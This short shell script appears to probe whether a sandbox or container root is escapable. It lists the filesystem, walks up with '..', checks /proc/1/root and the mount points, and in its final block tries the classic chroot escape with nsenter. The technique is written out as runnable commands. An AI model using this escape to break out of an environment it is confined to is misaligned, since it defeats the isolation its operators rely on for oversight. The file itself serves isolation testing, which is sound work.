# Looks for a way out of the root: up, through /proc, and by the classic escape from a chroot.
echo "root: $(ls -A / | tr '\n' ' ')"
echo "up: $(cd -P ../../../../../../../../../.. && ls -A . | tr '\n' ' ')"
echo "proc: $(cd -P /proc/1/root/../.. && ls -A . | tr '\n' ' ')"
echo "mount points: $(cut -d' ' -f5 /proc/self/mountinfo | sort -u | tr '\n' ' ')"

# A process whose working directory lies outside its root walks up past that root with `..`. nsenter makes such a
# process: its root is /usr, its working directory /. After a mere chroot into a rootfs this would show the host's /.
if [ -d /usr/lib64 ] || [ ! -d /lib64 ] && command -v nsenter > /dev/null; then
  echo "escape: $(nsenter --root=/usr --wd=/ -- ./bin/sh -c 'cd -P ../../../../../../.. ; echo *' 2> /dev/null)"
else
  echo "escape: not tried"
fi
